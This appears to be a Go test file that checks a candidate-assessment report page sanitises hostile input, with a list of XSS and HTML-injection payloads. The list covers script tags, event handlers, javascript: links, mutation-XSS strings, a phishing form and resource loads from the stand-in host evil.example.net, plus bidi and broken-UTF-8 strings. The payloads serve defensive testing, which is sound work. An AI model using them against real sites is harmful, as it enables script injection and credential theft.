package report_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/trellis-ats/trellis/core"
)

// hostile are texts that try to run, load, mislead or break out of their place.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<p><script>alert(1)</script>text</p>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<SCRIPT SRC=//evil.example.net/x.js>`,
		`<p onclick=alert(1)>x</p>`, `<p style="position:fixed;background:url(//evil.example.net)">x</p>`, `<b onmouseover="alert(1)" class="fill" id="main">x</b>`,
		`<img src=x onerror=alert(1)>`, `<p><img src="https://evil.example.net/p.gif"></p>`, `<a href="javascript:alert(1)">x</a>`, `<p><a href=" jAvAsCrIpT&colon;alert(1)">x</a></p>`,
		`<a href="https://evil.example.net/login">Sign in again</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<p><iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe></p>`,
		`<svg onload=alert(1)>`, `<p><svg><script>alert(1)</script></svg></p>`, `<svg><style><p title="</style><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<style>*{display:none}</style><p>x</p>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `"><script>alert(1)</script>`, `' onfocus='alert(1)`, "` onfocus=alert(1)",
		`</div></section></main><h1>Forged</h1>`, `<p></div></section><form action="https://evil.example.net"><input name=x></form>`, `<p><base href="https://evil.example.net">`, `<p><meta http-equiv=refresh content="0;url=//evil.example.net">`,
		`<p><link rel=stylesheet href=//evil.example.net/x.css>`, `<p><object data=x></object><embed src=x>`, `<p><textarea><script>alert(1)</script>`, `<p><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<p><template><script>alert(1)</script></template>`, `<p><plaintext>rest`, `<blockquote><b><p><plaintext>rest`, `<p><xmp></p><script>alert(1)</script></xmp>`, `<p><!-- --!><script>alert(1)</script> -->`, `<p><![CDATA[<script>alert(1)</script>]]>`,
		`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`, `<p>&#60;script&#62;alert(1)`, "<p><\x00script>alert(1)</script>", "<p><scr\x00ipt>alert(1)</script>", "<\x01script>alert(1)</script>", "<p>&am\x01p;lt;script>",
		"\u202Egnp.exe\u202C \u2066x\u2069", "<p>\u202Egnp.exe</p>", "bro\xffken \xc3\x28 \xed\xa0\x80", "<p>bro\xffken\xf0\x28", "nul\x00bell\x07esc\x1b[31m", "{{.}}{{template \"layout\"}}", "javascript:alert(1)", "data:text/html,<script>",
		`**<script>alert(1)</script>**`, "- <img src=x onerror=alert(1)>\n- y", "# <svg onload=alert(1)>", strings.Repeat("<b>", 600) + "deep", strings.Repeat("<ul><li>", 300) + "deep", "<p>" + strings.Repeat("</div>", 100),
	}
}

// hostileView has text in every field that an engine, a candidate or a person at the company fills.
func hostileView(text string) *core.ReportView {
	v := view()
	v.Organization.Name, v.Test.Name, v.Candidate.FirstName, v.Candidate.LastName = text, text, text, text
	v.Result.Traits = []core.TraitScore{{Key: text, Name: text, Score: 5000}, {Key: "k", Name: text}}
	v.Result.Report = core.Report{
		Summary: text, Analysis: text, CoachingNotes: []string{text, "last note"},
		Transcript: []core.Turn{{Speaker: text, Text: text}, {Speaker: "p", Text: text, At: 9}},
		Moments:    []core.Moment{{Trait: text, Impact: text, Quote: text, Comment: text}, {Trait: "k", Impact: "POSITIVE", At: 9}},
	}
	return v
}

// allowed are the elements of the pages and of an engine's prose.
func allowed() []string {
	return strings.Fields(`html head meta title link style body a header div svg rect path span main section circle text p h1 h2 h3 h4
		dl dt dd time ul ol li blockquote b strong em i br hr code footer`)
}

// assertHarmless parses a page as a browser does and looks for anything that
// runs, loads, misleads or has left its place.
func assertHarmless(t interface{ Errorf(string, ...any) }, page string) {
	if !utf8.ValidString(page) || strings.ContainsAny(page, "\x00\x01\x07\x1b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") {
		t.Errorf("broken UTF-8 or hidden signs")
	}
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Errorf("%v", err)
		return
	}
	seen, elements := map[string]int{}, allowed()
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("a comment: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		seen[n.Data]++
		if !slices.Contains(elements, n.Data) {
			t.Errorf("a <%s> is on the page", n.Data)
		}
		for _, a := range n.Attr {
			assertAttribute(t, n, a)
		}
		if n.Data == "section" && n.Parent.Data != "main" || n.Data == "footer" && n.Parent.Data != "body" {
			t.Errorf("a <%s> is in a <%s>", n.Data, n.Parent.Data)
		}
	}
	for _, once := range []string{"html", "head", "body", "main", "h1", "style", "title", "link", "footer"} {
		if seen[once] != 1 {
			t.Errorf("%d <%s>", seen[once], once)
		}
	}
}

func assertAttribute(t interface{ Errorf(string, ...any) }, n *html.Node, a html.Attribute) {
	value := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "src", a.Key == "srcdoc", a.Key == "action", a.Key == "http-equiv", strings.Contains(value, "javascript:"):
		t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
	case a.Key == "href" && n.Data == "link":
		if !strings.HasPrefix(value, "data:image/svg+xml,") {
			t.Errorf("<link href=%q>", a.Val)
		}
	case a.Key == "href" && strings.HasPrefix(a.Val, "/report/t") && strings.HasSuffix(a.Val, ".pdf") && n.Parent.Data == "p":
	case a.Key == "href":
		if u, err := url.Parse(a.Val); err != nil || u.Fragment == "" || u.Host+u.Scheme+u.Path != "" {
			t.Errorf("<%s href=%q>", n.Data, a.Val)
		}
	}
}

func TestHostileTexts(t *testing.T) {
	t.Parallel()
	for n, text := range hostile() {
		t.Run(strconv.Itoa(n), func(t *testing.T) {
			t.Parallel()
			page := get(t, site(t, &reports{view: hostileView(text)}, nil), "/report/t").Body.String()
			assertHarmless(t, page)
			if t.Failed() {
				t.Logf("text: %q", text)
			}
			for _, part := range []string{">last note<", ">Transcript</h2>", "They inform a decision; they are not one."} {
				if !strings.Contains(page, part) {
					t.Errorf("%q has swallowed %q", text, part)
				}
			}
		})
	}
}

// Whatever is put together from the pieces of markup stays in its place.
func TestNoMarkupLeavesItsPlace(t *testing.T) {
	t.Parallel()
	pieces := append(hostile(), strings.Split(`<p>|</p>|<b>|</b>|<ul>|<li>|</ul>|<blockquote>|<table>|<tr>|<td>|</table>|<select>|<option>|<svg>|</svg>|<math>|<mi>|<annotation-xml encoding="text/html">|`+
		`<foreignObject>|<style>|</style>|<title>|<noscript>|</noscript>|<textarea>|<iframe>|<template>|</template>|<!--|-->|<a href=x>|</a>|<form>|</div>|<h3>|<em/>|<br/>|</br>|<|>|"|&lt;|&amp;|text|**`, "|")...)
	r := &reports{}
	pages := site(t, r, nil)
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces"), "")
		r.view = view()
		r.view.Result.Report = core.Report{Summary: text, Analysis: "<p>" + text, CoachingNotes: []string{text}}
		w := httptest.NewRecorder()
		pages.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/report/t", nil))
		assertHarmless(t, w.Body.String())
	})
}
